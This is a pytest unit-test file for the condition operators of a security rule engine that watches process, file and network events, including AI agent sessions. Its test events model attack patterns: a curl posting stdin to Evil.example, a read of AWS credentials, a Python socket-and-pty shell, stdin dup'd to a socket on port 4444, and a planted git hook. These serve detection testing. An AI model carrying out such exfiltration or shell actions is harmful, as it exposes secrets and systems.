"""Every operator, on compiled conditions, against events built from the model."""

from __future__ import annotations

import pytest

from typing import Any

from coi_sentinel.events import model as m
from coi_sentinel.rules import Engine

pytestmark = pytest.mark.unit

LISTS = """\
- list: shells
  items: [bash, sh]
- list: more_shells
  items: [zsh, shells]
- list: ports
  items: [22, "443"]
- list: nets
  items: [10.0.0.0/8, "fd00::/8"]
"""


def holds(rules: Any, rule_yaml: Any, condition: str, event: m.Event, events: str | None = None,
          before: tuple[m.Event, ...] = ()) -> bool:
    """Does ``condition`` hold for ``event`` (after feeding ``before`` to build process state)?"""
    events = events or f"[{event.type.label}]"
    rs = rules.load(LISTS + rule_yaml("t", f"'{condition}'" if "'" not in condition else f'"{condition}"', events))
    alerts: list = []
    eng = Engine(rs, on_alert=alerts.append)
    for e in before:
        eng.feed(e)
    del alerts[:]
    eng.feed(event)
    return [a.rule for a in alerts] == ["t"]


@pytest.fixture
def check(rules: Any, rule_yaml: Any) -> Any:
    def _check(condition: str, event: m.Event, **kw: Any) -> bool:
        return holds(rules, rule_yaml, condition, event, **kw)
    return _check


def test_equal_and_not_equal(check, ev: Any) -> None:
    e = ev.exec(10, "/usr/bin/bash", "bash", "-c", "ls")
    assert check("proc.name = bash", e)
    assert not check("proc.name = sh", e)
    assert check("proc.name != sh", e)
    assert not check("proc.name != bash", e)
    assert check("proc.argc = 3", e)
    assert check("proc.argc != 2", e)
    assert check("proc.exe = /usr/bin/bash", e)


def test_number_comparisons_at_their_edges(check, ev: Any) -> None:
    e = ev.exec(10, "/bin/x", "x", uid=1000)
    assert check("user.uid < 1001", e) and not check("user.uid < 1000", e)
    assert check("user.uid <= 1000", e) and not check("user.uid <= 999", e)
    assert check("user.uid > 999", e) and not check("user.uid > 1000", e)
    assert check("user.uid >= 1000", e) and not check("user.uid >= 1001", e)
    assert check("user.uid = 0x3e8", e)
    assert check("user.uid = 01750", e)        # a leading zero is octal, like chmod
    assert check("user.uid < 1KiB", e) and not check("user.uid < 1KB", e)


def test_number_formats_for_modes(check, ev: Any) -> None:
    e = ev.chmod(10, "/x", 0o4755)
    assert check("file.mode = 04755", e)
    assert check("file.mode = 0o4755", e)
    assert check("file.mode = 2541", e)
    assert check("file.mode_octal = 04755", e)
    assert check("file.mode_setuid", e) and not check("file.mode_setgid", e)


def test_in_with_values_and_lists(check, ev: Any) -> None:
    e = ev.exec(10, "/bin/zsh")
    assert check("proc.name in (bash, zsh)", e)
    assert not check("proc.name in (bash, sh)", e)
    assert check("proc.name in (more_shells)", e)           # lists nest
    assert check("proc.name in more_shells", e)             # without parentheses too
    assert not check("proc.name in (shells)", e)
    assert check("not proc.name in ()", e)                  # empty: never in it
    c = ev.connect(10, "1.2.3.4", 443)
    assert check("net.dport in (ports)", c)                 # "443" in the list reads as a number
    assert check("net.dport in (80, 443)", c)
    assert not check("net.dport in (80, 8443)", c)


def test_quoted_list_name_is_a_value(check, ev: Any) -> None:
    assert check("proc.name in ('shells')", ev.exec(10, "/bin/shells"))


def test_contains_and_icontains(check, ev: Any) -> None:
    e = ev.exec(10, "/usr/bin/curl", "curl", "-d", "@-", "HTTPS://Evil.example/")
    assert check("proc.cmdline contains evil", e) is False
    assert check("proc.cmdline contains Evil.example", e)
    assert check("proc.cmdline icontains evil.EXAMPLE", e)
    assert check("proc.cmdline contains (nothing, -d)", e)
    assert not check("proc.cmdline contains (nothing, none)", e)
    assert check("proc.cmdline icontains (nothing, https://)", e)
    assert check("proc.args contains '@-'", e)


def test_startswith_and_endswith(check, ev: Any) -> None:
    e = ev.open(10, "/home/u/.aws/credentials")
    assert check("file.path startswith /home/", e)
    assert not check("file.path startswith /etc/", e)
    assert check("file.path startswith (/etc/, /home/u/)", e)
    assert check("file.path endswith .aws/credentials", e)
    assert check("file.path endswith (x, credentials)", e)
    assert not check("file.path endswith (x, y)", e)
    assert check("file.name = credentials", e)
    assert check("file.dir = /home/u/.aws", e)


def test_glob(check, ev: Any) -> None:
    e = ev.exec(10, "/lib64/ld-linux-x86-64.so.2")
    assert check("proc.name glob ld-linux*.so*", e)
    assert check("proc.exe glob '/lib*/ld-*'", e)
    assert check("proc.exe glob '/*.2'", e)                # * also matches /
    assert check("proc.name glob 'ld-linux-x86-64.so.?'", e)
    assert check("proc.name glob '[kl]d-*'", e)
    assert not check("proc.name glob 'ld-musl*'", e)
    assert check("proc.name glob (ld-musl*, ld-linux*)", e)
    assert not check("proc.name glob ld-linux", e)          # the whole value must match


def test_regex(check, ev: Any) -> None:
    e = ev.exec(10, "/usr/bin/python3.11", "python3", "-c", "import socket,pty")
    assert check("proc.name regex 'python[0-9.]*$'", e)
    assert check("proc.args regex 'socket.*pty'", e)          # searched anywhere
    assert not check("proc.args regex '^socket'", e)
    assert check("proc.args regex (nomatch, 'import (os|socket)')", e)


def test_cidr_v4_v6_and_mapped(check, ev: Any) -> None:
    assert check("net.dip cidr (10.0.0.0/8)", ev.connect(10, "10.1.2.3", 80))
    assert not check("net.dip cidr (10.0.0.0/8)", ev.connect(10, "11.1.2.3", 80))
    assert check("net.dip cidr 169.254.169.254", ev.connect(10, "169.254.169.254", 80))
    assert check("net.dip cidr (nets)", ev.connect(10, "fd00:ec2::254", 80))
    assert not check("net.dip cidr (nets)", ev.connect(10, "2001:db8::1", 80))
    assert check("net.dip cidr (nets)", ev.connect(10, "::ffff:10.9.9.9", 80))   # v4-mapped v6
    assert check("net.dip cidr '::1/128'", ev.connect(10, "::1", 80))
    unix = ev.connect(10, "/run/docker.sock", 0)
    assert not check("net.dip cidr (nets)", unix)           # no IP: no value, false
    assert check("not net.dip exists", unix)
    assert check("net.daddr = /run/docker.sock", unix)


def test_address_equality_is_normalised(check, ev: Any) -> None:
    assert check("net.dip = 'fd00:ec2:0::254'", ev.connect(10, "fd00:ec2::254", 80))
    assert check("net.dip in (1.2.3.4, 'fd00:ec2::254')", ev.connect(10, "fd00:ec2::254", 80))


def test_exists_and_missing_values(check, ev: Any) -> None:
    orphan = ev.exec(10, "/bin/x")
    assert not check("proc.pname exists", orphan)
    assert not check("proc.pname = bash", orphan)           # no value: comparison false
    assert check("not proc.pname = bash", orphan)           # ... and its negation true
    child = ev.exec(11, "/bin/x", ppid=10)
    parent = (ev.exec(10, "/bin/bash"), ev.fork(10, 11))
    assert check("proc.pname exists", child, before=parent)
    assert check("proc.pname = bash", child, before=parent)
    assert check("proc.name exists", orphan)                # always has a value
    assert check("not (net.dip exists or file.path exists)", orphan, events="[exec]")


def test_fields_not_available_for_the_type_are_false(check, ev: Any) -> None:
    e = ev.exec(10, "/bin/x")
    assert check("proc.name = x or net.dport = 22", e, events="[exec, connect]")
    assert not check("net.dport = 22", ev.exec(10, "/bin/x"), events="[exec, connect]")
    assert check("not net.dport = 22", ev.exec(10, "/bin/x"), events="[exec, connect]")


def test_boolean_fields(check, ev: Any) -> None:
    assert check("proc.is_shell", ev.exec(10, "/bin/bash"))
    assert check("proc.is_shell", ev.exec(10, "/usr/bin/zsh5"))       # version suffix ignored
    assert not check("proc.is_shell", ev.exec(10, "/tmp/kworker"))
    assert check("proc.is_interpreter", ev.exec(10, "/usr/bin/python3.11"))
    assert check("proc.is_interpreter = true", ev.exec(10, "/usr/bin/perl"))
    assert check("proc.is_interpreter = false", ev.exec(10, "/usr/bin/ls"))
    assert check("proc.is_interpreter != true", ev.exec(10, "/usr/bin/ls"))


def test_logic(check, ev: Any) -> None:
    e = ev.exec(10, "/bin/bash", uid=0)
    assert check("proc.name = bash and user.uid = 0", e)
    assert not check("proc.name = bash and user.uid = 1", e)
    assert check("proc.name = sh or user.uid = 0", e)
    assert not check("proc.name = sh or user.uid = 1", e)
    assert check("not (proc.name = sh or user.uid = 1)", e)
    assert check("proc.name = sh or user.uid = 1 or (proc.is_shell and not user.uid != 0)", e)


def test_event_type_field(check, ev: Any) -> None:
    assert check("evt.type = exec", ev.exec(10, "/bin/x"), events="[exec, connect]")
    assert not check("evt.type = connect", ev.exec(10, "/bin/x"), events="[exec, connect]")
    assert check("evt.type in (connect, exec) and evt.type != connect", ev.exec(10, "/bin/x"),
                 events="[exec, connect]")


def test_ancestors_any_and_indexed(check, ev: Any) -> None:
    before = (ev.exec(5, "/usr/sbin/sshd"), ev.fork(5, 6), ev.exec(6, "/bin/bash", ppid=5), ev.fork(6, 7, ppid=5))
    e = ev.exec(7, "/usr/bin/python3", "python3", "x.py", ppid=6)
    assert check("proc.aname = sshd", e, before=before)
    assert check("proc.aname in (login, sshd)", e, before=before)
    assert not check("proc.aname = login", e, before=before)
    assert check("not proc.aname = login", e, before=before)
    assert check("proc.aname startswith ssh", e, before=before)
    assert check("proc.aname[0] = python3", e, before=before)
    assert check("proc.aname[1] = bash", e, before=before)
    assert check("proc.aname[2] = sshd", e, before=before)
    assert not check("proc.aname[3] exists", e, before=before)
    assert check("proc.apid[2] = 5", e, before=before)
    assert check("proc.pcmdline = bash", e, before=before)
    assert check("proc.aexe[1] = /bin/bash", e, before=before)
    assert check("proc.aname exists", e, before=before)


def test_argv(check, ev: Any) -> None:
    e = ev.exec(10, "/usr/bin/git", "git", "-c", "core.fsmonitor=evil", "status")
    assert check("proc.argv[0] = git", e)
    assert check("proc.argv[3] = status", e)
    assert not check("proc.argv[4] exists", e)
    assert check("proc.argv = status", e)                   # any argument
    assert check("proc.argv icontains core.FSMONITOR", e)
    assert check("proc.args = '-c core.fsmonitor=evil status'", e)


def test_failed_exec_describes_the_attempt(check, ev: Any) -> None:
    e = ev.exec(10, "/usr/local/bin/nope", errno=2)
    assert check("proc.name = nope and evt.errno = 2 and evt.failed", e)
    assert not check("evt.errno = 0", e)


def test_fd_and_socket_state(check, ev: Any) -> None:
    before = (ev.connect(10, "10.0.0.9", 4444, fd=3),)
    dup = ev.dup(10, 3, 0)                                  # kernel did not flag it; the table knows
    assert check("fd.is_socket and fd.newfd = 0 and net.dip = 10.0.0.9 and net.dport = 4444", dup, before=before)
    assert check("proc.stdin_is_socket and proc.stdio_net and proc.stdio_dport = 4444", dup, before=before)
    assert not check("proc.stdout_is_socket", dup, before=before)
    assert not check("fd.is_socket", ev.dup(11, 5, 1))


def test_procfs_fields(check, ev: Any) -> None:
    assert check("file.is_other_proc and file.proc_pid = 77", ev.open(10, "/proc/77/environ"))
    assert not check("file.is_other_proc", ev.open(10, "/proc/10/environ"))
    assert not check("file.is_other_proc", ev.open(10, "/proc/self/environ"))
    assert check("file.proc_pid = 10", ev.open(10, "/proc/self/environ"))
    assert not check("file.proc_pid exists", ev.open(10, "/etc/passwd"))


def test_rename_paths(check, ev: Any) -> None:
    e = ev.rename(10, "/tmp/x", ".git/hooks/pre-commit")
    assert check("file.path = .git/hooks/pre-commit and file.oldpath = /tmp/x and file.name = pre-commit", e)
    assert check("file.dir = .git/hooks", e)


def test_priv_fields_and_descendants(check, ev: Any) -> None:
    before = (ev.fork(10, 11), ev.exec(11, "/bin/prog", ppid=10))
    assert check("priv.target_is_descendant", ev.priv(10, "ptrace", 0x4206, 11), before=before)
    assert not check("priv.target_is_descendant", ev.priv(10, "ptrace", 16, 99), before=before)
    assert check("priv.ptrace_request = 0x4206 and priv.target_pid = 11", ev.priv(10, "ptrace", 0x4206, 11))
    assert not check("priv.ptrace_request exists", ev.priv(10, "mount", 0, 0, "/mnt"))


def test_session_fields(rules: Any, rule_yaml: Any, ev: Any) -> None:
    from coi_sentinel.rules import SessionInfo

    rs = rules.load(rule_yaml("t", "session.network = restricted and session.tool = claude", "[connect]",
                              output="%session.id"))
    alerts: list = []
    eng = Engine(rs, on_alert=alerts.append,
                 sessions=lambda e: SessionInfo("s1", "claude", "restricted") if e.container == "agent-1" else None)
    eng.feed(ev.connect(10, "10.0.0.1", 80))
    ev.container = "other"
    eng.feed(ev.connect(10, "10.0.0.1", 80))
    assert [(a.rule, a.output, a.session_id) for a in alerts] == [("t", "s1", "s1")]
